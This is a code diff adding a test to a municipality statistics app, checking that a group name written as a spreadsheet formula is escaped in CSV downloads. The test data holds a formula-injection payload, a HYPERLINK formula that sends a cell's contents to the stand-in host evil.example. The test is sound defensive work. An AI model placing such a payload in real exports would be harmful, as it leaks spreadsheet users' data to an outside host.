@@ -137,6 +137,16 @@ def test_each_figure_downloads_as_csv(aarhus):
     assert missing.status_code == 404
 
 
+def test_a_circle_named_like_a_formula_stays_text_in_the_csv(aarhus):
+    municipality, big, _, staff = aarhus
+    big.name = '=HYPERLINK("http://evil.example/?d="&B2,"Trøjborg")'
+    db.session.commit()
+    url = f"/api/v1/municipalities/{municipality.id}/stats/new_members.csv{PERIOD}"
+    lines = staff.get(url).get_data(True).splitlines()
+    assert any(line.startswith("\"'=HYPERLINK(") for line in lines)
+    assert not any(line.lstrip('"').startswith(("=", "+", "-", "@")) for line in lines)
+
+
 def test_viewing_and_downloading_are_in_the_audit_log(aarhus):
     municipality, _, _, staff = aarhus
     staff.get(f"/api/v1/municipalities/{municipality.id}/stats{PERIOD}")
